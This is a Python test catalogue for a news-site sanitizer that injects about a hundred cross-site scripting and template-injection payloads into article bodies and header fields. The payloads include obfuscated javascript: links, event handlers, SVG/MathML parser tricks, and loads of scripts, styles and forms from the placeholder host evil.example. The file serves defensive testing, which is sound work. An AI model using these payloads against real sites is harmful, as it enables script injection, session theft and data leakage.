# ruff: noqa: E501  an attack is one line
"""Ways to make a browser run a script, ask another host or lose the page, in every place where
somebody may type.

After the ideas of public collections of attacks (handlers, schemes behind entities and controls,
foreign elements, mark up that changes when it is read twice, style, frames, forms, refresh). What
holds for every page is asked in ``page.py`` and, with Chromium, in ``tests/browser``.
"""

from __future__ import annotations

from tests.catalogue.case import BODY, DATE, SECTION, Case, article, harmless

AFTER = "\n\nSau đó vẫn là chữ.\n"
HOST = "//evil.example"

BODIES = {
    # schemes
    "scheme in capitals": "[x](JaVaScRiPt:alert(1))",
    "scheme behind blanks": '<a href="   javascript:alert(1)">x</a>',
    "scheme behind a line end": '<a href="\njavascript:alert(1)">x</a>',
    "scheme split by a line end": '<a href="java\nscript:alert(1)">x</a>',
    "scheme split by an entity": '<a href="java&Tab;script&colon;alert(1)">x</a>',
    "scheme split by a new line entity": '<a href="java&NewLine;script:alert(1)">x</a>',
    "scheme in decimals": "<a href=\"&#106;&#97;&#118;&#97;&#115;cript&#58;alert(1)\">x</a>",
    "scheme in decimals without end": "<a href=&#0000106&#0000097vascript:alert(1)>x</a>",
    "scheme in hexadecimals": "<a href=&#x6A&#x61&#x76&#x61script:alert(1)>x</a>",
    "scheme in per cents": "[x](javascript%3Aalert(1))",
    "scheme behind a comment": '<a href="javascript://%0aalert(1)">x</a>',
    "scheme behind view source": '<a href="view-source:javascript:alert(1)">x</a>',
    "scheme of a feed": '<a href="feed:javascript:alert(1)">x</a>',
    "scheme blob": "[x](blob:https://example.vn/1)",
    "scheme of a worker": "[x](filesystem:https://example.vn/1)",
    "data with a script": "[x](data:text/html,<script>alert(1)</script>)",
    "data of xhtml": '<a href="data:application/xhtml+xml;base64,PHNjcmlwdD4=">x</a>',
    "link without quotes": "<a href=javascript:alert`1`>x</a>",
    "link with an entity for a quote": '<a title="&quot; onmouseover=alert(1) &quot;" href="/tin/">x</a>',
    "autolink of a script": "<JAVASCRIPT:alert(1)>",
    "reference of data": "[x]\n\n[x]: data:text/html;base64,PHNjcmlwdD4= \"t\"",
    "backslashes to another host": "<a href=\"\\\\\\\\evil.example\">x</a>",
    "link that pings": f'<a href="/tin/" ping="{HOST}/p">x</a>',
    "target and opener": '<a href="https://example.vn/" target="_top" rel="opener">x</a>',
    # handlers
    **{
        f"handler {name}": mark_up
        for name, mark_up in {
            "of mouse": "<b onmouseover=alert(1)>x</b>",
            "of focus": "<p tabindex=0 autofocus onfocus=alert(1)>x</p>",
            "of pointer": "<p onpointerrawupdate=alert(1)>x</p>",
            "of animation": '<p style="animation-name:a" onanimationstart=alert(1)>x</p>',
            "of transition": "<p ontransitionend=alert(1)>x</p>",
            "of marquee": "<marquee onstart=alert(1)>x</marquee>",
            "of video": "<video><source onerror=alert(1)></video>",
            "of audio": f"<audio src={HOST}/a.mp3 onloadstart=alert(1) autoplay></audio>",
            "of body": "<body onload=alert(1)>x",
            "of input": "<input autofocus onfocus=alert(1)>",
            "of select": "<select autofocus onfocus=alert(1)><option>x</select>",
            "of key generation": "<keygen autofocus onfocus=alert(1)>",
            "behind a slash": "<p/onclick=alert(1)>x</p>",
            "behind a form feed": "<p\x0conclick=alert(1)>x</p>",
            "behind a quote": '<p class="a"onclick="alert(1)">x</p>',
            "behind a null entity": "<p &#0;onclick=alert(1)>x</p>",
            "in back quotes": "<p title=`x` onclick=`alert(1)`>x</p>",
            "of content visibility": "<p oncontentvisibilityautostatechange=alert(1)>x</p>",
            "before toggle": "<button popovertarget=x>y</button><div popover id=x onbeforetoggle=alert(1)>z</div>",
        }.items()
    },
    # foreign elements, and mark up that changes when it is read twice
    "svg animates a link": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
    "svg sets a handler": "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "svg use of data": '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"></svg>',
    "svg foreign object": "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "svg style with a picture": "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "svg title": "<svg><title><style></title><img src=x onerror=alert(1)></style></svg>",
    "svg description": "<svg><desc><noscript><img title='</noscript><img src onerror=alert(1)>'></desc></svg>",
    "math with a table": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "math with a link": '<math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">x</maction></math>',
    "math annotation": "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "form in a form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "select and style": "<select><style></select><img src=x onerror=alert(1)></style>",
    "title that hides": "<title><a title='</title><img src=x onerror=alert(1)>'></title>",
    "text area that hides": "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "frames without": "<noframes><p title='</noframes><img src=x onerror=alert(1)>'></noframes>",
    "embed without": "<noembed><p title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "xmp that hides": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "comment that ends early": "<!--> <img src=x onerror=alert(1)> -->",
    "comment that ends oddly": "<!-- --!><img src=x onerror=alert(1)> -->",
    "comment of a dash": "<!---><img src=x onerror=alert(1)>-->",
    "instruction that hides": "<?xml version='1.0'?><?php <img src=x onerror=alert(1)> ?>",
    "declaration that hides": "<!DOCTYPE x [<!ENTITY e '<script>alert(1)</script>'>]>&e;",
    "character data that hides": "<![CDATA[<script>alert(1)</script>]]>",
    "shadow root": "<div><template shadowrootmode=open><script>alert(1)</script></template></div>",
    "custom element": "<x-y is=script onclick=alert(1)>x</x-y>",
    "nested quotes": "<<script>alert(1);//<</script>",
    "script end in an attribute": "<a title='</script><script>alert(1)</script>' href=/tin/>x</a>",
    # styles, frames, forms and what fetches
    "style import": f"<style>@import '{HOST}/x.css';</style>",
    "style of a picture": f'<p style="background:url({HOST}/x.png)">x</p>',
    "style expression": '<p style="width:expression(alert(1))">x</p>',
    "style binding": f'<p style="-moz-binding:url({HOST}/x.xml#a)">x</p>',
    "style attribute in capitals": '<P STYLE="position:fixed;top:0">x</P>',
    "background of a table": f'<table background="{HOST}/x.png"><tr><td background="{HOST}/y.png">x</table>',
    "picture with sizes": f'<picture><source srcset="{HOST}/x.png"><img srcset="{HOST}/y.png 2x" alt="a"></picture>',
    "picture of a map": f'<img usemap=#m src="{HOST}/x.png" alt=a><map name=m><area href=javascript:alert(1)></map>',
    "picture lazily": f'<img loading=lazy lowsrc="{HOST}/x.png" dynsrc="{HOST}/y" alt=a>',
    "image element": f'<image src="{HOST}/x.png" onerror=alert(1)>',
    "image element with words": f'<image src="{HOST}/x.png" alt="chữ">',
    "image element in a sentence": f'Chữ <image src={HOST}/x.png alt=a> chữ.',
    "frame set": f'<frameset><frame src="{HOST}/"></frameset>',
    "portal and fenced frame": f'<portal src="{HOST}/"></portal><fencedframe></fencedframe>',
    "object of a type": f'<object type="text/html" data="{HOST}/"></object>',
    "applet": f'<applet code="x" archive="{HOST}/x.jar"></applet>',
    "base with a target": f'<base target="_parent" href="{HOST}/">',
    "refresh with a script": '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "refresh in capitals": f'<META HTTP-EQUIV="Refresh" CONTENT="0; URL={HOST}/">',
    "policy of its own": "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    "link that loads before": f'<link rel=preload as=script href="{HOST}/x.js"><link rel=dns-prefetch href="{HOST}">',
    "script map of modules": '<script type=importmap>{"imports":{}}</script><script type=module>alert(1)</script>',
    "rules that load before": f'<script type=speculationrules>{{"prerender":[{{"urls":["{HOST}/"]}}]}}</script>',
    "form that sends": f'<form action="{HOST}/"><input type=image src="{HOST}/x.png"><isindex></form>',
    "button of another form": f'<button form=tim formaction="{HOST}/">x</button>',
    "dialog over the page": "<dialog open style='inset:0'>Đăng nhập</dialog>",
    "track of a video": f'<video controls poster="{HOST}/p.png"><track src="{HOST}/x.vtt" default></video>',
    # what Markdown and templates do
    "markdown link in a title": '[x](/tin/ "a\' onmouseover=alert(1) b")',
    "markdown picture of a script": "![x](javascript:alert(1))",
    "markdown picture of another host": f"![x](https:{HOST}/theo-doi.gif)",
    "markdown reference of a script": "[x][1]\n\n[1]: <javascript:alert(1)>",
    "markdown in mark up": '<div markdown="1" onclick="alert(1)">**x**</div>',
    "markdown with an escaped quote": "[x](/tin/\\\" onclick=alert(1) x=\\\")",
    "markdown note with a script": "Chữ[^a].\n\n[^a]: <script>alert(1)</script> [x](vbscript:x)",
    "markdown table with a script": "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
    "markdown heading with a handler": "## x <b onclick=alert(1)>y</b> {onclick=alert(1)}",
    "template that ends": "{% endblock %}{% endraw %}{{ ''.__class__.__mro__ }}{% import 'os' as os %}",
    "template in a link": "[x](/{{ site.name }}/)",
    "format string": "{0.__class__} %(x)s ${x} #{x} <%= 7*7 %>",
}  # fmt: skip
LINES = {
    "script": "<script>alert(1)</script>",
    "picture": '<img src=x onerror="alert(1)">',
    "attribute": '" onmouseover="alert(1)" x="',
    "attribute of single quotes": "' onmouseover='alert(1)' x='",
    "end of the title": "</title></head><body onload=alert(1)>",
    "end of data": "]]></script><script>alert(1)</script>",
    "link": "[x](javascript:alert(1)) <javascript:alert(1)>",
    "template": "{{ 7*7 }}{% include 'article.html' %}",
}
KEYS = {
    "title": "Title: A {}\n" + DATE + SECTION + "\n" + BODY,
    "summary": article(headers="Summary: A {}\n"),
    "dateline": article(headers="Dateline: A {}\n"),
    "author": article(headers="Authors: A {}\n"),
    "correction": article(headers="Correction: 2024-05-07; A {}\n"),
    "approval": article(headers="Approved: A {}; 2024-05-05\n"),
    "withdrawal": article(headers="Withdrawn: 2024-05-07; A {}\n"),
    "old address": article(headers="Was: /cu/a{}.html\n"),
}

CASES: tuple[Case, ...] = (
    *(
        harmless(f"vector {name}", article(mark_up + AFTER), ("Sau đó vẫn là chữ",))
        for name, mark_up in BODIES.items()
    ),
    *(
        harmless(f"vector {line} in {key}", text.replace("{}", mark_up), lacks=(r"\b49\b",))
        for key, text in KEYS.items()
        for line, mark_up in LINES.items()
    ),
)
